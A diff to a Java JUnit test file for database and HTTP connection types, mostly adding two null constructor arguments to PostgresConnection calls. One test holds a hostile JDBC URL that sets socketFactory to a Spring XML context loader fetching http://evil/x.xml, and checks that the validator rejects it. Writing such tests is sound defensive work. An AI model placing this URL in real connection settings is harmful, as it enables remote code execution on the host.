@@ -9,7 +9,8 @@ import org.junit.jupiter.api.Test;
 class ConnectionTypesTest {
     @Test
     void defaultsAreApplied() {
-        assertThat(new PostgresConnection("w", "jdbc:postgresql://h/db", "u", "p", null).schema()).isEqualTo("public");
+        assertThat(new PostgresConnection("w", "jdbc:postgresql://h/db", "u", "p", null, null, null).schema())
+                .isEqualTo("public");
         HttpConnection http = new HttpConnection("h", "https://x.io", null, null, null, null);
         assertThat(http.method()).isEqualTo("POST");
         assertThat(http.headers()).isEmpty();
@@ -20,18 +21,18 @@ class ConnectionTypesTest {
 
     @Test
     void validPostgresHasNoProblems() {
-        assertThat(new PostgresConnection("w", "jdbc:postgresql://localhost:5432/warehouse", "u", "p", "public")
-                .problems()).isEmpty();
+        assertThat(new PostgresConnection("w", "jdbc:postgresql://localhost:5432/warehouse", "u", "p", "public", null,
+                null).problems()).isEmpty();
     }
 
     @Test
     void postgresProblemsNameTheField() {
-        assertThat(new PostgresConnection("w", "jdbc:mysql://h/db", null, null, "bad schema").problems())
+        assertThat(new PostgresConnection("w", "jdbc:mysql://h/db", null, null, "bad schema", null, null).problems())
                 .hasSize(3)
                 .anyMatch(p -> p.startsWith("jdbc_url must start with"))
                 .anyMatch(p -> p.startsWith("username is missing"))
                 .anyMatch(p -> p.startsWith("schema 'bad schema'"));
-        assertThat(new PostgresConnection("w", null, "u", null, null).problems())
+        assertThat(new PostgresConnection("w", null, "u", null, null, null, null).problems())
                 .singleElement().asString().startsWith("jdbc_url is missing");
     }
 
@@ -39,7 +40,7 @@ class ConnectionTypesTest {
     void driverParametersThatLoadClassesAreRejected() {
         assertThat(new PostgresConnection("w",
                 "jdbc:postgresql://h/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
-                        + "&socketFactoryArg=http://evil/x.xml", "u", "p", null).problems())
+                        + "&socketFactoryArg=http://evil/x.xml", "u", "p", null, null, null).problems())
                 .hasSize(2).allMatch(p -> p.contains("is not allowed"));
     }
 
@@ -72,7 +73,8 @@ class ConnectionTypesTest {
 
     @Test
     void redactedFormsHideEverySecret() {
-        PostgresConnection pg = new PostgresConnection("w", "jdbc:postgresql://h/db?password=qp", "u", "pw", null);
+        PostgresConnection pg = new PostgresConnection("w", "jdbc:postgresql://h/db?password=qp", "u", "pw", null,
+                null, null);
         assertThat(pg.redacted().password()).isEqualTo("****");
         assertThat(pg.redacted().jdbcUrl()).isEqualTo("jdbc:postgresql://h/db?password=****");
         assertThat(pg.secretValues()).contains("qp", "pw");
